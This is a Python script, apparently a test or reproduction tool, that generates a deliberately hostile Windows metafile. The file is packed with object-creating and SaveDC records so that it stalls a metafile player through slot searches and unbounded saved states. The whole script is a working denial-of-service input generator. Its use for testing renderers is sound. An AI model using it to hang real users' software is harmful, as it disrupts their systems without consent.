#!/usr/bin/env python3
"""Writes a placeable Windows metafile made mostly of object-creating records,
the kind of background picture that once kept the metafile player busy for
minutes (a linear search for each new object's slot) and saved states that
nothing bounded.

    make_hostile_wmf.py OUT [--objects N] [--delete-every K] [--saves N]

--objects N       CreatePenIndirect records (default 300000)
--delete-every K  a DeleteObject of the newest object after every K creates
                  (default 0: none, so the object table only fills)
--saves N         SaveDC records before the creates (default 0)
"""

import argparse
import struct
import sys


def record(function, *words):
    # Size in 16-bit words (the 6-byte record header included), function, words.
    return struct.pack("<IH", 3 + len(words), function) + struct.pack("<%dH" % len(words), *(w & 0xFFFF for w in words))


def metafile(objects, delete_every, saves):
    body = [record(0x020B, 0, 0), record(0x020C, 100, 100)]  # window origin, extent
    body += [record(0x001E)] * saves  # SaveDC
    live = 0
    for i in range(objects):
        # CreatePenIndirect: style, width (x, y), colour.
        body.append(record(0x02FA, 0, 1 + i % 5, 0, i & 0x7FFF, (i >> 15) & 0xFF))
        live += 1
        if delete_every and (i + 1) % delete_every == 0:
            body.append(record(0x01F0, live - 1))  # DeleteObject of the newest
            live -= 1
    body.append(record(0x012D, 0))  # SelectObject
    body.append(record(0x041B, 90, 90, 10, 10))  # Rectangle
    body.append(record(0x0000))  # end of file
    records = b"".join(body)

    max_record = 8  # CreatePenIndirect's words
    header = struct.pack("<HHHIHIH", 1, 9, 0x0300, (18 + len(records)) // 2,
                         min(objects, 0xFFFF), max_record, 0)
    # Placeable header: key, handle, bounds, units per inch, reserved, checksum.
    placeable = struct.pack("<IhhhhhHI", 0x9AC6CDD7, 0, 0, 0, 100, 100, 1440, 0)
    checksum = 0
    for (word,) in struct.iter_unpack("<H", placeable):
        checksum ^= word
    return placeable + struct.pack("<H", checksum) + header + records


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out")
    parser.add_argument("--objects", type=int, default=300000)
    parser.add_argument("--delete-every", type=int, default=0)
    parser.add_argument("--saves", type=int, default=0)
    args = parser.parse_args()
    if args.objects < 0 or args.saves < 0 or args.delete_every < 0:
        parser.error("counts are not negative")
    data = metafile(args.objects, args.delete_every, args.saves)
    with open(args.out, "wb") as out:
        out.write(data)
    print("%s: %d bytes, %d object creates, %d saved states" % (args.out, len(data), args.objects, args.saves),
          file=sys.stderr)


if __name__ == "__main__":
    main()
